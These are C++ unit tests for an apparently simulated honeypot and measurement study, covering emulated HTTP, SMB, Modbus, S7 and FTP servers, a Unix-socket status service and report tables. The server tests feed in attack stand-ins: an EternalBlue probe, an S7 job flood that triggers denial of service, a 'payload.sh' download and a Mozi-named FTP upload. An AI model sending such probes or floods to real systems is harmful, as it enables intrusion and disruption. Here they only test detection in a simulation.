  const auto ok = tcp_exchange(80, http::encode_request(request));
  EXPECT_NE(ok.find("200 OK"), std::string::npos);
  EXPECT_NE(ok.find("<html>home</html>"), std::string::npos);

  http::Request missing;
  missing.path = "/nope";
  const auto notfound = tcp_exchange(80, http::encode_request(missing));
  EXPECT_NE(notfound.find("404"), std::string::npos);
}

TEST_F(ServerTest, HttpLoginFormChecksCredentials) {
  http::HttpServerConfig config;
  config.has_login_form = true;
  config.auth = AuthConfig::with("admin", "polycom");
  std::vector<bool> attempts;
  http::HttpEvents events;
  events.on_login_attempt = [&](Ipv4Addr, const std::string&,
                                const std::string&, bool ok) {
    attempts.push_back(ok);
  };
  http::HttpServer server(config, events);
  server.install(server_);

  http::Request bad;
  bad.method = "POST";
  bad.path = "/login";
  bad.body = "user=admin&pass=wrong";
  const auto denied = tcp_exchange(80, http::encode_request(bad));
  EXPECT_NE(denied.find("401"), std::string::npos);

  http::Request good;
  good.method = "POST";
  good.path = "/login";
  good.body = "user=admin&pass=polycom";
  const auto accepted = tcp_exchange(80, http::encode_request(good));
  EXPECT_NE(accepted.find("200"), std::string::npos);
  EXPECT_EQ(attempts, (std::vector<bool>{false, true}));
}

TEST_F(ServerTest, HttpClientGet) {
  http::HttpServerConfig config;
  config.routes = {{"/payload.sh", "#!/bin/sh\necho pwned"}};
  http::HttpServer server(config);
  server.install(server_);

  std::optional<http::Response> got;
  http::HttpClient::get(client_, server_.address(), 80, "/payload.sh",
                        [&](std::optional<http::Response> response) {
                          got = std::move(response);
                        });
  run(sim::minutes(1));
  ASSERT_TRUE(got);
  EXPECT_EQ(got->status, 200);
  EXPECT_NE(got->body.find("pwned"), std::string::npos);
}

// -------------------------------------------------------------------- smb

TEST_F(ServerTest, SmbNegotiateAndExploitDetection) {
  smb::SmbServerConfig config;
  config.vulnerable_to_eternalblue = true;
  int exploits = 0;
  smb::SmbEvents events;
  events.on_exploit_attempt = [&](Ipv4Addr, const util::Bytes&) {
    ++exploits;
  };
  smb::SmbServer server(config, events);
  server.install(server_);

  smb::SmbFrame negotiate;
  negotiate.command = smb::Command::kNegotiate;
  util::Bytes payload = smb::encode_frame(negotiate);
  const auto probe = smb::eternalblue_probe();
  payload.insert(payload.end(), probe.begin(), probe.end());

  const auto raw = tcp_exchange(445, std::move(payload));
  EXPECT_EQ(exploits, 1);
  EXPECT_NE(raw.find("NT LM 0.12"), std::string::npos);
}

TEST_F(ServerTest, SmbPatchedHostResetsOnExploit) {
  smb::SmbServerConfig config;
  config.vulnerable_to_eternalblue = false;
  smb::SmbServer server(config);
  server.install(server_);

  bool closed = false;
  client_.tcp().connect(server_.address(), 445, [&](net::TcpConnection* conn) {
    ASSERT_NE(conn, nullptr);
    conn->on_close = [&](net::TcpConnection&) { closed = true; };
    conn->send(smb::eternalblue_probe());
  });
  run(sim::minutes(1));
  EXPECT_TRUE(closed);
}

// ----------------------------------------------------------------- modbus

TEST_F(ServerTest, ModbusReadAndWriteRegisters) {
  modbus::ModbusServer server(modbus::ModbusServerConfig{});
  server.install(server_);
  EXPECT_EQ(server.register_value(1), 1003);

  modbus::Request write;
  write.function = 0x06;
  util::ByteWriter args;
  args.u16(1).u16(5555);
  write.data = args.take();
  tcp_exchange(502, modbus::encode_request(write));
  EXPECT_EQ(server.register_value(1), 5555);
}

TEST_F(ServerTest, ModbusInvalidFunctionGetsException) {
  modbus::ModbusServer server(modbus::ModbusServerConfig{});
  int invalid_count = 0;
  modbus::ModbusEvents events;
  events.on_request = [&](Ipv4Addr, std::uint8_t, bool valid) {
    if (!valid) ++invalid_count;
  };
  modbus::ModbusServer server2(modbus::ModbusServerConfig{}, events);
  server2.install(server_);

  modbus::Request bogus;
  bogus.function = 0x63;  // invalid
  const auto raw = tcp_exchange(502, modbus::encode_request(bogus));
  EXPECT_EQ(invalid_count, 1);
  // Exception response: function | 0x80, code 0x01.
  std::size_t consumed = 0;
  const auto reply = modbus::decode_request(util::to_bytes(raw), &consumed);
  ASSERT_TRUE(reply);
  EXPECT_EQ(reply->function, 0x63 | 0x80);
  EXPECT_EQ(reply->data[0], 0x01);
}

TEST_F(ServerTest, ModbusIllegalAddressException) {
  modbus::ModbusServer server(modbus::ModbusServerConfig{});
  server.install(server_);
  modbus::Request read;
  read.function = 0x03;
  util::ByteWriter args;
  args.u16(10'000).u16(4);  // out of range
  read.data = args.take();
  const auto raw = tcp_exchange(502, modbus::encode_request(read));
  std::size_t consumed = 0;
  const auto reply = modbus::decode_request(util::to_bytes(raw), &consumed);
  ASSERT_TRUE(reply);
  EXPECT_EQ(reply->function, 0x03 | 0x80);
  EXPECT_EQ(reply->data[0], 0x02);
}

// --------------------------------------------------------------------- s7

TEST_F(ServerTest, S7AnswersJobsUntilSlotsExhausted) {
  proto::s7::S7ServerConfig config;
  config.job_slots = 4;
  config.job_recovery = sim::hours(4);  // no recovery within the test window
  bool dos_triggered = false;
  proto::s7::S7Events events;
  events.on_dos_triggered = [&](Ipv4Addr) { dos_triggered = true; };
  proto::s7::S7Server server(config, events);
  server.install(server_);

  util::Bytes payload = proto::s7::encode_cotp_connect();
  for (int i = 0; i < 10; ++i) {
    const auto job = proto::s7::encode_pdu(proto::s7::PduType::kJob,
                                           static_cast<std::uint16_t>(i), {});
    payload.insert(payload.end(), job.begin(), job.end());
  }
  tcp_exchange(102, std::move(payload));
  EXPECT_TRUE(dos_triggered);
  EXPECT_TRUE(server.saturated());
  EXPECT_EQ(server.jobs_in_flight(), 4u);
}

TEST_F(ServerTest, S7RecoversAfterFloodStops) {
  proto::s7::S7ServerConfig config;
  config.job_slots = 2;
  config.job_recovery = sim::minutes(30);
  proto::s7::S7Server server(config);
  server.install(server_);

  util::Bytes payload = proto::s7::encode_cotp_connect();
  for (int i = 0; i < 5; ++i) {
    const auto job = proto::s7::encode_pdu(proto::s7::PduType::kJob,
                                           static_cast<std::uint16_t>(i), {});
    payload.insert(payload.end(), job.begin(), job.end());
  }
  tcp_exchange(102, std::move(payload));  // drains <= ~12 minutes
  EXPECT_TRUE(server.saturated());
  run(sim::hours(1));  // past the recovery window
  EXPECT_FALSE(server.saturated());
  EXPECT_EQ(server.jobs_in_flight(), 0u);
}

// -------------------------------------------------------------------- ftp

TEST_F(ServerTest, FtpAnonymousLoginAndStore) {
  ftp::FtpServerConfig config;
  config.auth = AuthConfig::anonymous();
  std::string stored_name, stored_content;
  ftp::FtpEvents events;
  events.on_store = [&](Ipv4Addr, const std::string& name,
                        const std::string& content) {
    stored_name = name;
    stored_content = content;
  };
  ftp::FtpServer server(config, events);
  server.install(server_);

  const std::string script =
      "USER anonymous\r\nPASS x@y\r\nSTOR mozi.m\r\nELF-PAYLOAD\r\n.\r\nQUIT\r\n";
  const auto raw = tcp_exchange(21, util::to_bytes(script));
  EXPECT_NE(raw.find("230 Login successful."), std::string::npos);
  EXPECT_NE(raw.find("226 Transfer complete."), std::string::npos);
  EXPECT_EQ(stored_name, "mozi.m");
  EXPECT_NE(stored_content.find("ELF-PAYLOAD"), std::string::npos);
  EXPECT_EQ(server.files().count("mozi.m"), 1u);
}

TEST_F(ServerTest, FtpRejectsAnonymousWhenDisallowed) {
  ftp::FtpServerConfig config;
  config.auth = AuthConfig::with("user", "pw");
  ftp::FtpServer server(config);
  server.install(server_);
  const auto raw =
      tcp_exchange(21, util::to_bytes("USER anonymous\r\nPASS x\r\n"));
  EXPECT_NE(raw.find("530"), std::string::npos);
}

TEST_F(ServerTest, FtpListRequiresLogin) {
  ftp::FtpServerConfig config;
  config.auth = AuthConfig::anonymous();
  ftp::FtpServer server(config);
  server.install(server_);
  const auto raw = tcp_exchange(21, util::to_bytes("LIST\r\n"));
  EXPECT_NE(raw.find("530"), std::string::npos);
}

}  // namespace
}  // namespace ofh::proto
