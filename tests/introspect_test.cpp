// Live introspection (obs/introspect.h + core/status_service.h): ring and
// hub semantics, the pure status-frame handler against valid and hostile
// requests, the socket server end-to-end, the Prometheus quantile series,
// the /proc memory reader, and the headline acceptance property — a full
// study with a status server and a concurrently polling client produces
// byte-identical deterministic exports at scan_threads 1, 2 and 8.
#include <gtest/gtest.h>

#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

#include <atomic>
#include <string>
#include <thread>
#include <vector>

#include "core/reports.h"
#include "core/status_service.h"
#include "core/study.h"
#include "obs/introspect.h"
#include "obs/metrics.h"
#include "obs/proc_stat.h"

namespace ofh {
namespace {

using core::StatusErrorCode;
using core::StatusRequest;
using obs::IntrospectionHub;
using obs::ProgressEvent;
using obs::ProgressKind;
using obs::ProgressRing;

// ------------------------------------------------------------------- ring

TEST(ProgressRing, PublishPollRoundTrip) {
  ProgressRing ring(64);
  for (std::uint64_t i = 0; i < 5; ++i) {
    ProgressEvent event;
    event.kind = ProgressKind::kSweepProgress;
    event.phase = 2;
    event.shard = static_cast<std::uint16_t>(i);
    event.sim_time = 100 + i;
    event.a = i * 10;
    event.b = i * 100;
    ring.publish(event);
  }
  EXPECT_EQ(ring.published(), 5u);

  ProgressRing::Cursor cursor;
  ProgressEvent out[8];
  const std::size_t n = ring.poll(cursor, out, 8);
  ASSERT_EQ(n, 5u);
  EXPECT_EQ(cursor.next, 5u);
  EXPECT_EQ(cursor.lost, 0u);
  for (std::uint64_t i = 0; i < 5; ++i) {
    EXPECT_EQ(out[i].seq, i);
    EXPECT_EQ(out[i].kind, ProgressKind::kSweepProgress);
    EXPECT_EQ(out[i].phase, 2);
    EXPECT_EQ(out[i].shard, i);
    EXPECT_EQ(out[i].sim_time, 100 + i);
    EXPECT_EQ(out[i].a, i * 10);
    EXPECT_EQ(out[i].b, i * 100);
  }
  // Nothing new: poll returns 0 and leaves the cursor alone.
  EXPECT_EQ(ring.poll(cursor, out, 8), 0u);
  EXPECT_EQ(cursor.next, 5u);
}

TEST(ProgressRing, CapacityRoundsUpToPowerOfTwoMinimumSixteen) {
  EXPECT_EQ(ProgressRing(0).capacity(), 16u);
  EXPECT_EQ(ProgressRing(1).capacity(), 16u);
  EXPECT_EQ(ProgressRing(16).capacity(), 16u);
  EXPECT_EQ(ProgressRing(17).capacity(), 32u);
  EXPECT_EQ(ProgressRing(100).capacity(), 128u);
}

TEST(ProgressRing, LapCountsLostEventsPerCursor) {
  ProgressRing ring(16);
  for (std::uint64_t i = 0; i < 40; ++i) {
    ProgressEvent event;
    event.sim_time = i;
    ring.publish(event);
  }
  ProgressRing::Cursor cursor;  // starts at 0: lapped 24 events behind
  std::vector<ProgressEvent> out(64);
  const std::size_t n = ring.poll(cursor, out.data(), out.size());
  EXPECT_EQ(n, 16u);
  EXPECT_EQ(cursor.lost, 24u);
  EXPECT_EQ(cursor.next, 40u);
  EXPECT_EQ(out[0].seq, 24u);
  EXPECT_EQ(out[0].sim_time, 24u);
  EXPECT_EQ(out[15].seq, 39u);
}

TEST(ProgressRing, PollHonorsMaxAndResumes) {
  ProgressRing ring(64);
  for (std::uint64_t i = 0; i < 10; ++i) {
    ProgressEvent event;
    event.a = i;
    ring.publish(event);
  }
  ProgressRing::Cursor cursor;
  ProgressEvent out[4];
  EXPECT_EQ(ring.poll(cursor, out, 4), 4u);
  EXPECT_EQ(out[3].a, 3u);
  EXPECT_EQ(ring.poll(cursor, out, 4), 4u);
  EXPECT_EQ(out[3].a, 7u);
  EXPECT_EQ(ring.poll(cursor, out, 4), 2u);
  EXPECT_EQ(out[1].a, 9u);
}

// -------------------------------------------------------------------- hub

TEST(IntrospectionHubTest, BoardSnapshotIsConsistentAndEpochMonotonic) {
  IntrospectionHub hub;
  auto snap = hub.snapshot(false);
  EXPECT_EQ(snap.epoch, 0u);
  EXPECT_EQ(snap.phase, 0u);

  hub.set_phase_name(2, "scan");
  hub.set_board(2, 1'000'000, 0);
  snap = hub.snapshot(false);
  EXPECT_EQ(snap.epoch, 1u);
  EXPECT_EQ(snap.phase, 2u);
  EXPECT_EQ(snap.phase_name, "scan");
  EXPECT_EQ(snap.sim_now, 1'000'000u);

  std::uint64_t last_epoch = snap.epoch;
  for (int i = 0; i < 10; ++i) {
    hub.set_board(2, 2'000'000 + static_cast<std::uint64_t>(i), 0);
    const auto next = hub.snapshot(false);
    EXPECT_GT(next.epoch, last_epoch);
    last_epoch = next.epoch;
  }
}

TEST(IntrospectionHubTest, SweepSlotsFoldAndClampToTotal) {
  IntrospectionHub hub;
  const std::size_t a = hub.add_sweep("Telnet", 1000);
  const std::size_t b = hub.add_sweep("MQTT", 500);
  ASSERT_NE(a, obs::kMaxSweepSlots);
  ASSERT_NE(b, obs::kMaxSweepSlots);
  hub.update_sweep(a, 400);
  hub.update_sweep(b, 700);  // transiently past total: snapshot clamps
  const auto snap = hub.snapshot(false);
  ASSERT_EQ(snap.sweeps.size(), 2u);
  EXPECT_EQ(snap.sweeps[0].name, "Telnet");
  EXPECT_EQ(snap.sweeps[0].done, 400u);
  EXPECT_EQ(snap.sweeps[0].total, 1000u);
  EXPECT_EQ(snap.sweeps[1].done, 500u);  // clamped
  EXPECT_EQ(snap.sweep_done, 900u);
  EXPECT_EQ(snap.sweep_total, 1500u);
}

TEST(IntrospectionHubTest, SweepTableFullDropsNotTrample) {
  IntrospectionHub hub;
  for (std::size_t i = 0; i < obs::kMaxSweepSlots; ++i) {
    ASSERT_EQ(hub.add_sweep("s" + std::to_string(i), 10), i);
  }
  EXPECT_EQ(hub.add_sweep("overflow", 10), obs::kMaxSweepSlots);
  hub.update_sweep(obs::kMaxSweepSlots, 5);  // silently dropped
  EXPECT_EQ(hub.snapshot(false).sweeps.size(), obs::kMaxSweepSlots);
}

TEST(IntrospectionHubTest, KindCountsMatchPublishes) {
  IntrospectionHub hub;
  hub.publish(ProgressKind::kPhaseEnter, 1, 0, 0);
  hub.publish(ProgressKind::kSweepProgress, 2, 1, 10, 100, 200);
  hub.publish(ProgressKind::kSweepProgress, 2, 2, 20, 300, 400);
  hub.publish(ProgressKind::kPhaseExit, 1, 0, 30, 30);
  EXPECT_EQ(hub.kind_count(ProgressKind::kPhaseEnter), 1u);
  EXPECT_EQ(hub.kind_count(ProgressKind::kSweepProgress), 2u);
  EXPECT_EQ(hub.kind_count(ProgressKind::kPhaseExit), 1u);
  EXPECT_EQ(hub.kind_count(ProgressKind::kSimDayAdvance), 0u);
  const auto snap = hub.snapshot(false);
  EXPECT_EQ(snap.events_published, 4u);
  EXPECT_EQ(snap.kind_counts[0] + snap.kind_counts[1] + snap.kind_counts[2] +
                snap.kind_counts[3] + snap.kind_counts[4],
            4u);
}

TEST(IntrospectionHubTest, TextSlotsReplaceWholesale) {
  IntrospectionHub hub;
  EXPECT_EQ(hub.text(IntrospectionHub::TextSlot::kDegradation), "");
  hub.set_text(IntrospectionHub::TextSlot::kDegradation, "v1");
  hub.set_text(IntrospectionHub::TextSlot::kDegradation, "v2");
  EXPECT_EQ(hub.text(IntrospectionHub::TextSlot::kDegradation), "v2");
  hub.set_text(IntrospectionHub::TextSlot::kPhaseMetrics, "metrics");
  EXPECT_EQ(hub.text(IntrospectionHub::TextSlot::kPhaseMetrics), "metrics");
}

// ----------------------------------------------------------- frame handler

util::Bytes request_body(StatusRequest tag) {
  return util::Bytes{static_cast<std::uint8_t>(tag)};
}

struct ParsedError {
  StatusErrorCode code;
  std::string message;
};

// nullopt if the body is not an error frame.
std::optional<ParsedError> as_error(const util::Bytes& body) {
  util::ByteReader reader(body);
  const auto tag = reader.u8();
  if (!tag || *tag != core::kStatusErrorTag) return std::nullopt;
  const auto code = reader.u8();
  const auto message = reader.str16();
  if (!code || !message) return std::nullopt;
  return ParsedError{static_cast<StatusErrorCode>(*code), *message};
}

TEST(StatusFrame, StatusRequestRoundTrips) {
  IntrospectionHub hub;
  hub.set_phase_name(2, "scan");
  hub.set_board(2, 42, 0);
  hub.add_sweep("Telnet", 100);
  hub.update_sweep(0, 40);
  core::StatusContext context;
  context.hub = &hub;
  const auto body = core::handle_status_frame(
      request_body(StatusRequest::kStatus), context);
  ASSERT_FALSE(as_error(body).has_value());
  util::ByteReader reader(body);
  EXPECT_EQ(*reader.u8(), core::kStatusResponseBit | 1);
  EXPECT_EQ(*reader.u64(), 1u);       // epoch
  EXPECT_EQ(*reader.u8(), 2u);        // phase
  EXPECT_EQ(*reader.str8(), "scan");  // phase name
  EXPECT_EQ(*reader.u64(), 42u);      // sim_now
  (void)reader.u64();                 // sim_day
  EXPECT_EQ(*reader.u64(), 40u);      // sweep_done
  EXPECT_EQ(*reader.u64(), 100u);     // sweep_total
  EXPECT_EQ(*reader.u8(), 1u);        // sweep count
  EXPECT_EQ(*reader.str8(), "Telnet");
}

TEST(StatusFrame, ProgressHonorsCursorPayload) {
  IntrospectionHub hub;
  for (int i = 0; i < 6; ++i) {
    hub.publish(ProgressKind::kSweepProgress, 2, 1,
                static_cast<std::uint64_t>(i));
  }
  core::StatusContext context;
  context.hub = &hub;

  util::ByteWriter writer;
  writer.u8(static_cast<std::uint8_t>(StatusRequest::kProgress));
  writer.u64(4);  // cursor: skip the first four events
  const auto body = core::handle_status_frame(writer.take(), context);
  util::ByteReader reader(body);
  EXPECT_EQ(*reader.u8(),
            core::kStatusResponseBit |
                static_cast<std::uint8_t>(StatusRequest::kProgress));
  EXPECT_EQ(*reader.u64(), 6u);  // next cursor
  EXPECT_EQ(*reader.u64(), 0u);  // lost
  EXPECT_EQ(*reader.u16(), 2u);  // count
  EXPECT_EQ(*reader.u64(), 4u);  // first seq
}

TEST(StatusFrame, HostileFramesAnswerTypedErrors) {
  IntrospectionHub hub;
  core::StatusContext context;
  context.hub = &hub;

  // Empty body.
  auto error = as_error(core::handle_status_frame({}, context));
  ASSERT_TRUE(error.has_value());
  EXPECT_EQ(error->code, StatusErrorCode::kMalformed);

  // Unknown tag.
  const util::Bytes unknown{0xee};
  error = as_error(core::handle_status_frame(unknown, context));
  ASSERT_TRUE(error.has_value());
  EXPECT_EQ(error->code, StatusErrorCode::kUnknownTag);

  // Oversized body (> 64 bytes).
  const util::Bytes oversized(65, 0x01);
  error = as_error(core::handle_status_frame(oversized, context));
  ASSERT_TRUE(error.has_value());
  EXPECT_EQ(error->code, StatusErrorCode::kOversized);

  // Trailing bytes after a no-payload request.
  const util::Bytes trailing{0x01, 0xaa};
  error = as_error(core::handle_status_frame(trailing, context));
  ASSERT_TRUE(error.has_value());
  EXPECT_EQ(error->code, StatusErrorCode::kMalformed);

  // Progress with a short (non-u64) cursor payload.
  const util::Bytes bad_cursor{0x02, 0x01, 0x02};
  error = as_error(core::handle_status_frame(bad_cursor, context));
  ASSERT_TRUE(error.has_value());
  EXPECT_EQ(error->code, StatusErrorCode::kMalformed);

  // Stop without permission.
  error = as_error(
      core::handle_status_frame(request_body(StatusRequest::kStop), context));
  ASSERT_TRUE(error.has_value());
  EXPECT_EQ(error->code, StatusErrorCode::kForbidden);
  EXPECT_FALSE(context.stop_requested);

  // No hub attached.
  core::StatusContext empty;
  error = as_error(
      core::handle_status_frame(request_body(StatusRequest::kStatus), empty));
  ASSERT_TRUE(error.has_value());
  EXPECT_EQ(error->code, StatusErrorCode::kUnavailable);
}

TEST(StatusFrame, PermittedStopSetsFlag) {
  IntrospectionHub hub;
  core::StatusContext context;
  context.hub = &hub;
  context.allow_stop = true;
  const auto body =
      core::handle_status_frame(request_body(StatusRequest::kStop), context);
  EXPECT_FALSE(as_error(body).has_value());
  EXPECT_TRUE(context.stop_requested);
  util::ByteReader reader(body);
  EXPECT_EQ(*reader.u8(),
            core::kStatusResponseBit |
                static_cast<std::uint8_t>(StatusRequest::kStop));
  EXPECT_TRUE(reader.done());
}

// ------------------------------------------------------------ wire client

bool write_all(int fd, const std::uint8_t* data, std::size_t size) {
  while (size > 0) {
    const ssize_t n = ::write(fd, data, size);
    if (n <= 0) return false;
    data += n;
    size -= static_cast<std::size_t>(n);
  }
  return true;
}

bool read_all(int fd, std::uint8_t* data, std::size_t size) {
  while (size > 0) {
    const ssize_t n = ::read(fd, data, size);
    if (n <= 0) return false;
    data += n;
    size -= static_cast<std::size_t>(n);
  }
  return true;
}

int connect_unix(const std::string& path) {
  sockaddr_un addr{};
  addr.sun_family = AF_UNIX;
  if (path.size() >= sizeof addr.sun_path) return -1;
  std::memcpy(addr.sun_path, path.c_str(), path.size() + 1);
  const int fd = ::socket(AF_UNIX, SOCK_STREAM, 0);
  if (fd < 0) return -1;
  if (::connect(fd, reinterpret_cast<sockaddr*>(&addr), sizeof addr) != 0) {
    ::close(fd);
    return -1;
  }
  return fd;
}

std::optional<util::Bytes> roundtrip(int fd,
                                     std::span<const std::uint8_t> body) {
  const util::Bytes framed = core::frame_status_message(body);
  if (!write_all(fd, framed.data(), framed.size())) return std::nullopt;
  std::uint8_t header[4];
  if (!read_all(fd, header, sizeof header)) return std::nullopt;
  util::ByteReader reader(std::span<const std::uint8_t>(header, 4));
  const std::uint32_t length = *reader.u32();
  util::Bytes response(length);
  if (length > 0 && !read_all(fd, response.data(), length)) {
    return std::nullopt;
  }
  return response;
}

std::string test_socket_path(const char* suffix) {
  return "/tmp/ofh_introspect_" + std::to_string(::getpid()) + "_" + suffix +
         ".sock";
}

TEST(StatusServiceTest, ServesStatusOverUnixSocket) {
  IntrospectionHub hub;
  hub.set_phase_name(5, "attack_month");
  hub.set_board(5, 77, 3);
  core::StatusService::Options options;
  options.unix_path = test_socket_path("unit");
  core::StatusService service(hub, options);
  ASSERT_TRUE(service.start()) << service.error();

  const int fd = connect_unix(options.unix_path);
  ASSERT_GE(fd, 0);
  const auto body = roundtrip(fd, request_body(StatusRequest::kStatus));
  ASSERT_TRUE(body.has_value());
  util::ByteReader reader(*body);
  EXPECT_EQ(*reader.u8(), core::kStatusResponseBit | 1);
  EXPECT_EQ(*reader.u64(), 1u);                  // epoch
  EXPECT_EQ(*reader.u8(), 5u);                   // phase
  EXPECT_EQ(*reader.str8(), "attack_month");

  // Several requests on one connection: framing resynchronizes.
  for (int i = 0; i < 3; ++i) {
    const auto next = roundtrip(fd, request_body(StatusRequest::kTraceStats));
    ASSERT_TRUE(next.has_value());
    util::ByteReader r(*next);
    EXPECT_EQ(*r.u8(), core::kStatusResponseBit | 6);
  }
  ::close(fd);
  service.stop();
  EXPECT_FALSE(service.running());
}

TEST(StatusServiceTest, OversizedFrameAnswersErrorThenCloses) {
  IntrospectionHub hub;
  core::StatusService::Options options;
  options.unix_path = test_socket_path("hostile");
  core::StatusService service(hub, options);
  ASSERT_TRUE(service.start()) << service.error();

  const int fd = connect_unix(options.unix_path);
  ASSERT_GE(fd, 0);
  const util::Bytes oversized(65, 0x00);
  const auto body = roundtrip(fd, oversized);
  ASSERT_TRUE(body.has_value());
  const auto error = as_error(*body);
  ASSERT_TRUE(error.has_value());
  EXPECT_EQ(error->code, StatusErrorCode::kOversized);
  // Connection is closed after the error flushes: the next read EOFs.
  std::uint8_t scrap[4];
  EXPECT_FALSE(read_all(fd, scrap, sizeof scrap));
  ::close(fd);
  service.stop();
}

TEST(StatusServiceTest, TcpListenerBindsEphemeralLoopbackPort) {
  IntrospectionHub hub;
  core::StatusService::Options options;
  options.tcp = true;
  core::StatusService service(hub, options);
  ASSERT_TRUE(service.start()) << service.error();
  EXPECT_GT(service.tcp_port(), 0);
  service.stop();
}

// ------------------------------------------------- satellite: quantiles

#ifndef OFH_NO_METRICS
TEST(PrometheusQuantiles, HistogramExportCarriesQuantileSeries) {
  obs::Registry::global().reset();
  auto latency = obs::histogram("introspect.test_latency");
  // 90 observations in the value-8 bucket, 10 at 100: p50/p95 land on the
  // log2 bucket upper bounds 15 and 127.
  for (int i = 0; i < 90; ++i) latency.observe(8);
  for (int i = 0; i < 10; ++i) latency.observe(100);
  const std::string out = obs::Registry::global().export_prometheus();
  EXPECT_NE(out.find("introspect_test_latency{quantile=\"0.5\"} 15\n"),
            std::string::npos)
      << out;
  EXPECT_NE(out.find("introspect_test_latency{quantile=\"0.95\"} 127\n"),
            std::string::npos)
      << out;
  EXPECT_NE(out.find("introspect_test_latency{quantile=\"0.99\"} 127\n"),
            std::string::npos)
      << out;
  obs::Registry::global().reset();
}
#endif

// ------------------------------------------------- satellite: proc_stat

TEST(ProcStat, ReadsResidentSetOnLinux) {
  const auto memory = obs::read_proc_memory();
#ifdef __linux__
  EXPECT_GT(memory.rss_bytes, 0u);
  EXPECT_GE(memory.vm_hwm_bytes, memory.rss_bytes);
#else
  EXPECT_EQ(memory.rss_bytes, 0u);
#endif
}

// --------------------------------------------- tentpole: byte-identity

core::StudyConfig live_config(unsigned threads) {
  core::StudyConfig config;
  config.seed = 2021;
  config.population_scale = 1.0 / 16'384;
  config.attack_scale = 1.0 / 512;
  config.attack_duration = sim::days(2);
  config.scan_threads = threads;
  return config;
}

struct Exports {
  std::string metrics_prometheus;
  std::string metrics_csv;
  std::string trace_json;
  std::string table4;
  std::string degradation;
  // Deterministic introspection digest.
  std::array<std::uint64_t, obs::kProgressKindCount> kind_counts{};
  std::uint64_t events_published = 0;
  std::uint64_t epoch = 0;
  std::vector<std::pair<std::string, std::uint64_t>> sweep_finals;
};

Exports capture(core::Study& study) {
  Exports exports;
  exports.metrics_prometheus = study.metrics_prometheus();
  exports.metrics_csv = study.metrics_csv();
  exports.trace_json = study.trace_json();
  exports.table4 = core::report_table4_exposed(study);
  exports.degradation = study.degradation_report();
  const auto snap = study.introspection().snapshot(false);
  exports.kind_counts = snap.kind_counts;
  exports.events_published = snap.events_published;
  exports.epoch = snap.epoch;
  for (const auto& sweep : snap.sweeps) {
    exports.sweep_finals.emplace_back(sweep.name, sweep.done);
  }
  return exports;
}

TEST(LiveIntrospection, StudyExportsByteIdenticalWithPollingReader) {
  // Reference: no status service attached.
  Exports reference;
  {
    core::Study study(live_config(1));
    study.run_all();
    reference = capture(study);
    ASSERT_FALSE(reference.metrics_prometheus.empty());
    ASSERT_GT(reference.events_published, 0u);
    ASSERT_EQ(reference.sweep_finals.size(), 6u);
  }

  for (const unsigned threads : {1u, 2u, 8u}) {
    core::Study study(live_config(threads));
    core::StatusService::Options options;
    options.unix_path =
        test_socket_path(("identity" + std::to_string(threads)).c_str());
    options.tick_ms = 10;
    core::StatusService service(study.introspection(), options);
    ASSERT_TRUE(service.start()) << service.error();

    // Aggressive concurrent reader: hammers status + progress + trace-stats
    // over the wire for the study's whole runtime.
    std::atomic<bool> stop{false};
    std::atomic<std::uint64_t> polls{0};
    std::thread reader([&] {
      std::uint64_t cursor = 0;
      while (!stop.load(std::memory_order_acquire)) {
        const int fd = connect_unix(options.unix_path);
        if (fd < 0) continue;
        for (int i = 0; i < 16 && !stop.load(std::memory_order_acquire);
             ++i) {
          if (!roundtrip(fd, request_body(StatusRequest::kStatus))) break;
          util::ByteWriter writer;
          writer.u8(static_cast<std::uint8_t>(StatusRequest::kProgress));
          writer.u64(cursor);
          const auto progress = roundtrip(fd, writer.take());
          if (!progress) break;
          util::ByteReader r(*progress);
          (void)r.u8();
          if (const auto next = r.u64(); next) cursor = *next;
          if (!roundtrip(fd, request_body(StatusRequest::kTraceStats))) {
            break;
          }
          polls.fetch_add(1, std::memory_order_relaxed);
        }
        ::close(fd);
      }
    });

    study.run_all();
    stop.store(true, std::memory_order_release);
    reader.join();
    service.stop();
    EXPECT_GT(polls.load(), 0u) << "reader never completed a poll";

    const Exports exports = capture(study);
    EXPECT_EQ(exports.metrics_prometheus, reference.metrics_prometheus)
        << "scan_threads=" << threads;
    EXPECT_EQ(exports.metrics_csv, reference.metrics_csv)
        << "scan_threads=" << threads;
    EXPECT_EQ(exports.trace_json, reference.trace_json)
        << "scan_threads=" << threads;
    EXPECT_EQ(exports.table4, reference.table4)
        << "scan_threads=" << threads;
    EXPECT_EQ(exports.degradation, reference.degradation)
        << "scan_threads=" << threads;
    // The deterministic introspection digest matches too: same per-kind
    // event totals, same board epoch, same sweep finals.
    EXPECT_EQ(exports.kind_counts, reference.kind_counts)
        << "scan_threads=" << threads;
    EXPECT_EQ(exports.events_published, reference.events_published)
        << "scan_threads=" << threads;
    EXPECT_EQ(exports.epoch, reference.epoch) << "scan_threads=" << threads;
    EXPECT_EQ(exports.sweep_finals, reference.sweep_finals)
        << "scan_threads=" << threads;
  }
}

}  // namespace
}  // namespace ofh
