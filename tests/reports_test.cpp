// Report-content tests at a fixed tiny scale: beyond "renders non-empty"
// (study_test), these pin the semantic content — measured columns must
// reflect the underlying data structures exactly.
#include <gtest/gtest.h>

#include "core/reports.h"
#include "core/study.h"
#include "util/strings.h"

namespace ofh::core {
namespace {

// A shared scan-only study (cheap) for the scan-side reports.
class ScanReportsTest : public ::testing::Test {
 protected:
  static Study& study() {
    static Study* instance = [] {
      StudyConfig config;
      config.seed = 31;
      config.population_scale = 1.0 / 8'192;
      auto* s = new Study(config);
      s->setup_internet();
      s->run_scan();
      s->run_datasets();
      return s;
    }();
    return *instance;
  }
};

TEST_F(ScanReportsTest, Table4MeasuredColumnMatchesScanDb) {
  const auto report = report_table4_exposed(study());
  for (const auto protocol : proto::scanned_protocols()) {
    const auto count = study().scan_db().unique_hosts(protocol);
    // The formatted measured count must appear on the protocol's row.
    const auto name = std::string(proto::protocol_name(protocol));
    const auto line_start = report.find("| " + name + " ");
    ASSERT_NE(line_start, std::string::npos) << name;
    const auto line_end = report.find('\n', line_start);
    const auto line = report.substr(line_start, line_end - line_start);
    EXPECT_NE(line.find(util::with_commas(count)), std::string::npos)
        << line;
  }
}

TEST_F(ScanReportsTest, Table4MarksSonarNaRows) {
  const auto report = report_table4_exposed(study());
  const auto amqp_row = report.find("| AMQP");
  ASSERT_NE(amqp_row, std::string::npos);
  const auto line = report.substr(amqp_row, report.find('\n', amqp_row) -
                                                amqp_row);
  EXPECT_NE(line.find("NA"), std::string::npos);
}

TEST_F(ScanReportsTest, Table5TotalsAddUp) {
